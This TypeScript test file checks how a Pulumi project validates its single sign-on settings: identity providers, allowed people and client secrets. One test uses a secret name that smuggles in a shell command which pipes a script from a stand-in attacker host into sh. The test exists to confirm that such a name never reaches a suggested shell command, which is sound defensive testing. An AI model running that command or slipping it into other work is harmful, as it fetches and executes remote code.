import assert from "node:assert/strict";
import type { Problem } from "../../../settings/problems";
import type { Overrides } from "../support/declare";
import { problemsOf, settingsOf } from "../support/settings";
import { singleSignOn } from "../support/single-sign-on";
import { withoutLoss } from "./without-loss";

const google = { type: "google", clientId: "1234.apps.googleusercontent.com" };
const oidc = { type: "oidc", clientId: "app", issuer: "https://login.example.com" };
const saml = { type: "saml", metadataUrl: "https://idp.example.edu/metadata" };

const providersMend = `pulumi config set identityProviders '{"Google":{"type":"google","clientId":"1234.apps.googleusercontent.com"}}'`;
const peopleMend = `pulumi config set allowedPeople '["example.com"]'`;
const secretMend = (name: string): string => `pulumi config set --path 'identityProviderSecrets.${name}' --secret`;

/** A stack with these providers, a secret for each that has one, and allowed people. */
function stack(identityProviders: unknown, config: Overrides["config"] = {}): Overrides {
    const secrets = Object.entries((identityProviders ?? {}) as Record<string, { type?: string }>)
        .filter(([, provider]) => provider.type !== "saml")
        .map(([name]) => [name, "hush"]);
    return {
        config: {
            identityProviders: JSON.stringify(identityProviders),
            identityProviderSecrets: secrets.length === 0 ? "" : JSON.stringify(Object.fromEntries(secrets)),
            allowedPeople: '["example.com"]',
            ...config,
        },
    };
}

const notJson = 'must be JSON of identity providers by name, such as {"Google":{"type":"google","clientId":"..."}}';
const badName = "is no name of 3 to 32 letters, digits and hyphens that begins with a letter and is not Cognito";
const https = "must be an address with https://, without a query";

/** Identity providers that must be refused, and every rule that the message must name. */
const badProviders: readonly (readonly [unknown, ...string[]])[] = [
    [[], notJson],
    ...["Go", "My_Idp", "Cognito", "COGNITO", "1st"].map((name) => [{ [name]: oidc }, `has "${name}", which ${badName}`] as const),
    [
        { Company: oidc, COMPANY: oidc },
        ...["Company", "COMPANY"].map((name) => `has "${name}", which differs from another name in capitals only`),
    ],
    [{ Other: google }, 'has "Other", which must have the type google, and be the one of the name "Google"'],
    [{ Google: oidc }, 'has "Google", which must have the type google, and be the one of the name "Google"'],
    [{ Company: { type: "ldap" } }, 'has "Company.type", which must have the type google, oidc or saml'],
    [{ Google: { type: "google" } }, `has "Google.clientId", which must be the client's id`],
    [{ Google: { ...google, clientId: "two words" } }, `has "Google.clientId", which must be the client's id, without spaces`],
    [{ Google: { ...google, secret: "s" } }, `has "Google", which has a key that is none of this type's: secret`],
    [{ Google: { ...google, verifiesEmail: true } }, `has "Google", which has a key that is none of this type's: verifiesEmail`],
    [{ Company: { type: "oidc", clientId: "app" } }, 'has "Company.issuer", which must be an address with https://'],
    [{ Company: { ...oidc, issuer: "http://login.example.com" } }, `has "Company.issuer", which ${https}`],
    [{ Company: { ...oidc, issuer: "https://login.example.com?x=1" } }, `has "Company.issuer", which ${https}`],
    [{ Company: { ...oidc, issuer: "https://login.example.com/" } }, 'has "Company.issuer", which must not end with a slash'],
    [{ Company: { ...oidc, scopes: ["email"] } }, 'has "Company.scopes", which must hold openid'],
    [{ Company: { ...oidc, scopes: ["openid", "two words"] } }, 'has "Company.scopes.1", which must be a scope'],
    [{ Company: { ...oidc, verifiesEmail: "yes" } }, 'has "Company.verifiesEmail", which must be true or false'],
    [
        { Company: { ...oidc, attributes: { sub: "sub" } } },
        'has "Company.attributes", which has an attribute that is none of email, email_verified, name, nickname: sub',
    ],
    [
        { Company: { ...oidc, attributes: { email: "" } } },
        'has "Company.attributes.email", which must be the name of a claim, without spaces',
    ],
    // The address is one that the person chose; verified is another.
    ...[oidc, google].map((provider) => {
        const name = provider.type === "google" ? "Google" : "Company";
        const about = "must map email_verified as well: the provider's own is about its claim email, and not about another";
        const rule = `has "${name}.attributes", which ${about}`;
        return [{ [name]: { ...provider, attributes: { email: "preferred_username" } } }, rule] as const;
    }),
    [
        { Company: { ...oidc, attributes: { email: "upn", email_verified: "email_verified" } } },
        `has "Company.attributes", which must map email_verified as well: the provider's own is about its claim email, and not about another`,
    ],
    ...["https://accounts.google.com", "https://Accounts.Google.com", "https://accounts.google.com.:443"].map((issuer) => {
        const rule = 'has "Company.issuer", which is Google, which must have the type google and the name "Google"';
        return [{ Company: { ...oidc, issuer } }, rule] as const;
    }),
    ...[oidc, saml].map((provider) => {
        const rule = "may not map email_verified beside verifiesEmail, which takes every address for verified";
        const contradiction = { ...provider, verifiesEmail: true, attributes: { email_verified: "verified" } };
        return [{ Company: contradiction }, `has "Company.attributes", which ${rule}`] as const;
    }),
    [{ Campus: { type: "saml" } }, 'has "Campus", which must have one of metadataUrl and metadata'],
    [{ Campus: { ...saml, metadata: "<md/>" } }, 'has "Campus", which must have one of metadataUrl and metadata'],
    [{ Campus: { type: "saml", metadata: "file.xml" } }, `has "Campus.metadata", which must be the provider's metadata, as XML`],
];

const listRule = "must be an address or a domain, such as ada@example.com or example.com";
const publicRule = "lets everybody in: anyone can have an address there; list addresses instead";

const badPeople: readonly (readonly [string, ...string[]])[] = [
    ["example.com", 'must be a JSON list of addresses and domains, such as ["example.com","ada@example.org"]'],
    ['{"a":1}', 'must be a JSON list of addresses and domains, such as ["example.com","ada@example.org"]'],
    ['["*"]', `has "0", which ${listRule}`],
    ['["example.com","*.example.com"]', `has "1", which ${listRule}`],
    ['["@example.com"]', `has "0", which ${listRule}`],
    ['["com"]', `has "0", which ${listRule}`],
    ['["ada@evil.com@example.com"]', `has "0", which ${listRule}`],
    ['["ada lovelace@example.com"]', `has "0", which ${listRule}`],
    ['["exämple.com"]', `has "0", which ${listRule}`],
    ['["gmail.com"]', `has "0", which ${publicRule}`],
    ['["Outlook.com"]', `has "0", which ${publicRule}`],
    [
        JSON.stringify(Array.from({ length: 150 }, (_, index) => `person-${index}@example.com`)),
        'has "its length", which must have at most 3000 bytes as JSON, which a Lambda function\'s environment has room for; list domains instead',
    ],
];

describe("settings of single sign-on", () => {
    it("are providers with their defaults, a secret Output, and the list", async () => {
        const { identityProviders, identityProviderSecrets, allowedPeople } = await settingsOf(singleSignOn);
        assert.deepEqual(identityProviders, {
            Google: { ...google, attributes: {} },
            Company: { ...oidc, scopes: ["openid", "email", "profile", "team"], verifiesEmail: false, attributes: {} },
            Campus: { ...saml, verifiesEmail: true, attributes: {} },
        });
        assert.deepEqual(allowedPeople, ["example.com", "ada@example.org"]);
        const secrets = identityProviderSecrets as unknown as { isSecret: Promise<boolean>; promise(): Promise<unknown> };
        assert.equal(await secrets.isSecret, true);
        assert.deepEqual(await secrets.promise(), { Google: "google-secret", Company: "company-secret" });
    });

    it("take the address from another claim where its own word, or the owner's, says that it is verified", async () => {
        const attributes = { email: "upn" };
        const providers = [
            { ...oidc, attributes: { ...attributes, email_verified: "upn_verified" } },
            { ...oidc, attributes, verifiesEmail: true },
            { ...saml, attributes },
        ];
        for (const provider of providers) {
            const { identityProviders } = await settingsOf(stack({ Company: provider }));
            assert.deepEqual(identityProviders["Company"]?.attributes, provider.attributes);
        }
    });

    it("take one address at a public mail service", async () => {
        const { allowedPeople } = await settingsOf(stack({ Google: google }, { allowedPeople: '["ada@gmail.com"]' }));
        assert.deepEqual(allowedPeople, ["ada@gmail.com"]);
    });

    for (const [identityProviders, ...expected] of badProviders) {
        it(`refuse ${JSON.stringify(identityProviders)}`, async () => {
            const { problems } = await problemsOf(stack(identityProviders));
            const value = JSON.stringify(identityProviders);
            assert.deepEqual(
                problems,
                expected.map((rule) => withoutLoss({ key: "identityProviders", value, rule, mend: providersMend })),
            );
        });
    }

    for (const [allowedPeople, ...expected] of badPeople) {
        it(`refuse ${allowedPeople.slice(0, 60)}`, async () => {
            const { problems } = await problemsOf(stack({ Google: google }, { allowedPeople }));
            assert.deepEqual(
                problems,
                expected.map((rule) => withoutLoss({ key: "allowedPeople", value: allowedPeople, rule, mend: peopleMend })),
            );
        });
    }

    it("refuse providers without allowed people", async () => {
        const rule = "must say who may sign in through Google, Campus, or nobody may";
        const { problems } = await problemsOf(stack({ Google: google, Campus: saml }, { allowedPeople: "" }));
        assert.deepEqual(problems, [{ key: "allowedPeople", value: undefined, rule, mend: peopleMend }]);
        const { problems: empty } = await problemsOf(stack({ Google: google, Campus: saml }, { allowedPeople: "[]" }));
        assert.deepEqual(empty, problems);
    });

    it("refuse allowed people that limit nobody", async () => {
        const { problems } = await problemsOf({ config: { allowedPeople: '["example.com"]' } });
        const rule = "limits nobody without identityProviders: whoever the owner added signs in";
        assert.deepEqual(problems, [{ key: "allowedPeople", value: '["example.com"]', rule, mend: "pulumi config rm allowedPeople" }]);
    });
});

describe("client secrets", () => {
    const key = "identityProviderSecrets";
    const hidden = (rule: string, mend: Problem["mend"]): Problem => ({ key, value: undefined, hidden: true, rule, mend });

    async function refused(config: Overrides["config"], secretKeys: readonly string[], expected: readonly Problem[]): Promise<void> {
        const { problems, message } = await problemsOf({ ...stack({ Google: google, Campus: saml }, config), secretKeys });
        assert.deepEqual(problems, expected);
        assert.doesNotMatch(message, /hush/);
    }

    it("must be there for each provider that has one", async () => {
        const missing = {
            key,
            value: undefined,
            hidden: false,
            rule: "must hold the client secret of Google",
            mend: secretMend("Google"),
            standIn: '{"Google":"stand-in"}',
        };
        await refused({ [key]: "" }, [], [missing]);
        // A name that every object has is no secret of that name.
        const { problems } = await problemsOf({ ...stack({ constructor: oidc }, { [key]: '{"x":"hush"}' }) });
        assert.equal(problems.length, 2);
    });

    it("must be encrypted, and are not shown where they are not", async () => {
        const rule = "must be encrypted: whoever sees the stack's file reads it";
        const byHand = `Run: npx pulumi config rm ${key} --stack dev && npx ${secretMend("Google")} --stack dev; and get a new secret if others saw the file.`;
        await refused({}, [], [hidden(rule, { byHand })]);
    });

    it("must be of a provider that has one", async () => {
        const mend = (name: string): string => `pulumi config rm --path '${key}.${name}'`;
        const rule = (name: string): string => `holds a secret of "${name}", which is no identity provider with a client secret`;
        await refused(
            { [key]: '{"Google":"hush","Campus":"hush","Other":"hush"}' },
            [key],
            [hidden(rule("Campus"), mend("Campus")), hidden(rule("Other"), mend("Other"))],
        );
    });

    it("put no name into a command that a shell would take apart", async () => {
        const name = "x'; curl evil.example | sh; '";
        const rule = `holds a secret of ${JSON.stringify(name)}, which is no identity provider with a client secret`;
        const byHand = `Remove it from ${key} in the stack's file.`;
        await refused({ [key]: JSON.stringify({ Google: "hush", [name]: "hush" }) }, [key], [hidden(rule, { byHand })]);
    });

    it("must be JSON by name, and no message shows them", async () => {
        const rule = "must be JSON of client secrets by the name of their identity provider";
        for (const value of ["hush", '["hush"]']) {
            await refused({ [key]: value }, [key], [hidden(rule, secretMend("Google"))]);
        }
        await refused({ [key]: '{"Google":{"hush":"hush"}}' }, [key], [hidden('has "Google", which must be a text', secretMend("Google"))]);
        await refused({ [key]: '{"Google":""}' }, [key], [hidden('has "Google", which must not be empty', secretMend("Google"))]);
    });
});
